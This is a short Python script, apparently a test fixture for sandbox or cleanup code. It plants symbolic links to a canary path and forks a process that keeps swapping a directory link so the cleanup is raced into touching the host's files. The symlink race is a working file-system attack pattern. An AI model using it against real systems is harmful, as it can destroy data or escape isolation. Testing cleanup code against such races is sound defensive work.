"""Leaves symbolic links that lead the cleaning up to the host's files, and swaps them while it runs."""

import os

os.symlink("@CANARY@", "link")
os.symlink(os.path.dirname("@CANARY@"), "folder")
if os.fork() == 0:
    while True:
        try:
            os.rename("folder", "other")
            os.mkdir("folder")
            os.rmdir("folder")
            os.rename("other", "folder")
        except OSError:
            pass
